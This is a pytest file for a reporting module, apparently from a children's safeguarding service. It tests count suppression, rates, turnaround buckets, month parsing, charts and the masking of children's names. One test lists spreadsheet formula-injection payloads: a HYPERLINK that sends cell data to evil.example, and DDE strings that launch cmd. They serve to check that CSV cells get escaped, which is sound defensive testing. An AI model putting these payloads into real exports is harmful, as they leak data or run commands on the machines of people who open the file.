"""The arithmetic of the insight pages (insight/measures.py, charts.py): suppression, rates, turnaround,
levels against stages, months, CSV cells and masked names."""

from __future__ import annotations

import csv
import io
from datetime import date

import pytest

from insight import measures as m
from insight.charts import WIDEST_BAR, bar_chart


@pytest.mark.parametrize(("n", "text"), [(0, "0"), (1, "fewer than 5"), (4, "fewer than 5"), (5, "5"),
                                         (1234, "1,234")])
def test_counts_from_1_to_4_are_suppressed_and_0_stays_0(n, text):
    assert m.count(n).text == text
    assert m.count(n).suppressed is (1 <= n <= 4)


@pytest.mark.parametrize(("numerator", "denominator", "text"), [
    (7, 12, "58.3%"),
    (5, 10, "50.0%"),
    (0, 12, "0.0%"),  # none of 12: nothing small to give away
    (12, 12, "100.0%"),
    (3, 12, "not shown (fewer than 5)"),  # a small numerator
    (0, 3, "not shown (fewer than 5)"),  # a small denominator
    (9, 12, "not shown (fewer than 5)"),  # the 3 left over are small
    (11, 12, "not shown (fewer than 5)"),
    (0, 0, "none yet"),
])
def test_a_rate_is_suppressed_when_its_numerator_denominator_or_difference_is_1_to_4(numerator, denominator, text):
    assert m.rate(numerator, denominator).text == text


def test_a_breakdown_hides_small_cells_and_the_next_smallest_when_only_one_is_hidden():
    cells, total = m.breakdown({"nfa": 5, "advice": 0, "early_help": 5, "strategy": 2})
    assert {k: c.text for k, c in cells.items()} == {
        "nfa": "fewer than 5",  # secondary: else 12 - 5 - 0 - 5 gives the 2 away (ties: the first)
        "advice": "0", "early_help": "5", "strategy": "fewer than 5"}
    assert total.text == "12"


def test_secondary_suppression_picks_the_smallest_shown_cell():
    cells, _ = m.breakdown({"a": 40, "b": 3, "c": 9, "d": 7})
    assert [k for k, c in cells.items() if c.suppressed] == ["b", "d"]


def test_two_hidden_cells_need_no_more_and_a_small_total_is_hidden():
    cells, total = m.breakdown({"a": 2, "b": 3, "c": 20})
    assert [k for k, c in cells.items() if c.suppressed] == ["a", "b"] and total.text == "25"
    cells, total = m.breakdown({"a": 3, "b": 0})
    assert cells["a"].suppressed and total.text == "fewer than 5"


def test_a_breakdown_with_nothing_small_shows_everything():
    cells, total = m.breakdown({"a": 9, "b": 6, "c": 0})
    assert [c.text for c in cells.values()] == ["9", "6", "0"] and total.text == "15"


@pytest.mark.parametrize(("days", "bucket"), [(-2, "0"), (0, "0"), (1, "1"), (4, "4"), (5, "5+"), (40, "5+")])
def test_working_days_fall_into_buckets(days, bucket):
    assert m.day_bucket(days) == bucket


def test_median_and_share_within_one_working_day_from_the_buckets():
    reviews = {"0": 10, "2": 5}
    assert m.median_bucket(reviews) == "0"
    assert m.share_within(reviews, 1).text == "66.7%"
    decisions = {"1": 6, "3": 6}
    assert m.median_bucket(decisions) == "1"  # the lower middle of an even count
    assert m.median_bucket({"1": 5, "3": 6}) == "3"
    assert m.share_within(decisions, 1).text == "50.0%"


def test_a_median_of_fewer_than_5_is_not_given():
    assert m.median_bucket({"2": 4}) is None
    assert m.median_bucket({}) is None


def test_agreement_is_the_agreeing_share_of_the_compared():
    assert m.agreement({"same": 7, "lower": 5, "no_stage": 9}, "same", ("same", "higher", "lower")).text == "58.3%"


@pytest.mark.parametrize(("level", "other", "found"), [(2, 2, "same"), (3, 2, "higher"), (1, 2, "lower"),
                                                       (None, 2, None), (2, None, None)])
def test_levels_compare(level, other, found):
    assert m.compare_levels(level, other) == found


@pytest.mark.parametrize(("outcome", "bands", "found"), [
    ("early_help", ("early_help",), "same"),
    ("nfa", ("early_help",), "lower"),
    ("advice", ("universal",), "same"),
    ("cin_assessment", ("early_help",), "higher"),
    ("strategy_s47", ("child_in_need", "child_protection"), "same"),  # a level covering two stages: either
    ("cin_assessment", ("child_in_need", "child_protection"), "same"),
    ("early_help", ("child_in_need", "child_protection"), "lower"),
    ("strategy_s47", ("early_help", "child_in_need"), "higher"),
    ("existing_case", ("early_help",), "no_stage"),
    ("nfa", (), "no_stage"),
])
def test_the_front_doors_stage_against_the_bands_of_the_level(outcome, bands, found):
    assert m.frontdoor_vs_level(outcome, bands) == found


def test_months():
    assert m.months_between(date(2025, 11, 20), date(2026, 2, 3)) == [
        date(2025, 11, 1), date(2025, 12, 1), date(2026, 1, 1), date(2026, 2, 1)]
    assert m.months_between(date(2026, 3, 1), date(2026, 2, 1)) == []
    assert m.add_months(date(2026, 1, 1), -13) == date(2024, 12, 1)
    assert m.month_label(date(2026, 9, 1)) == "Sep 2026"


@pytest.mark.parametrize(("text", "month"), [("2026-01", date(2026, 1, 1)), (" 2026-9 ", date(2026, 9, 1)),
                                             ("3/2026", date(2026, 3, 1)), ("12/2025", date(2025, 12, 1)),
                                             ("2026-13", None), ("2026", None), ("January", None), ("", None),
                                             ("0/2026", None), ("1999-01", None)])
def test_months_are_read_as_year_and_month(text, month):
    assert m.parse_month(text) == month


# Payloads that spreadsheets run as formulas (OWASP "CSV injection"), as a name or free text could carry them.
PAYLOADS = ['=HYPERLINK("https://evil.example/?x="&A1,"Click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+9)*cmd|' /C calc'!A0",
            "\t=1+1", "\r=1+1", '=cmd|"/C notepad"!A1']


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_csv_cell_a_spreadsheet_would_run_gets_a_leading_apostrophe(payload):
    cell = m.csv_cell(payload)
    assert cell == "'" + payload
    out = io.StringIO()
    csv.writer(out).writerow([cell])
    read = next(csv.reader(io.StringIO(out.getvalue())))
    assert read[0].startswith("'")  # still the apostrophe first, once the CSV is read back


@pytest.mark.parametrize("plain", ["12", "fewer than 5", "58.3%", "Test School (fictional)", "a=b", "Early help"])
def test_a_plain_csv_cell_is_left_as_it_is(plain):
    assert m.csv_cell(plain) == plain


def test_the_childs_names_are_masked_in_free_text():
    text = "Jamie Smith told me her dad hits her; JAMIE's sister saw it. Smithson is the teacher."
    assert m.mask_child(text, "Jamie Smith") == \
        "[child] [child] told me her dad hits her; [child]'s sister saw it. Smithson is the teacher."
    assert m.mask_child("Ann-Marie O'Neil said so", "Ann-Marie O'Neil") == "[child] [child] said so"
    assert m.mask_child("no name given", "", "") == "no name given"
    assert m.mask_child("Zoë was upset", "Test Child", "Zoë Child") == "[child] was upset"


def test_a_bar_chart_scales_to_its_largest_value_and_draws_no_bar_for_a_hidden_one():
    chart = bar_chart("c", "Title", "Summary", [("Sep", m.count(20)), ("Oct", m.count(3)), ("Nov", m.count(0)),
                                               ("Dec", m.count(10))])
    assert [(b.label, b.text, b.width) for b in chart.bars] == [
        ("Sep", "20", WIDEST_BAR), ("Oct", "fewer than 5", 0), ("Nov", "0", 0), ("Dec", "10", WIDEST_BAR / 2)]
    assert chart.bars[0].value_x > WIDEST_BAR and chart.bars[1].value_x == 0
    assert chart.height == 4 * 48 + 4


def test_a_chart_of_rates_is_scaled_to_100_percent_and_long_labels_are_shortened():
    chart = bar_chart("c", "T", "S", [("x" * 60, m.rate(5, 10)), ("y", m.rate(3, 10))])
    assert chart.bars[0].width == WIDEST_BAR / 2 and chart.bars[1].width == 0
    assert chart.bars[0].label.endswith("…") and len(chart.bars[0].label) <= 42


def test_the_nightly_span_is_the_n_months_ending_with_the_given_one():
    from datetime import date

    from insight.measures import months_up_to
    assert months_up_to(date(2026, 12, 5), 13)[0] == date(2025, 12, 1)
    assert months_up_to(date(2026, 12, 5), 13)[-1] == date(2026, 12, 1) and len(months_up_to(date(2026, 1, 31), 3)) == 3
    assert months_up_to(date(2026, 1, 31), 3) == [date(2025, 11, 1), date(2025, 12, 1), date(2026, 1, 1)]
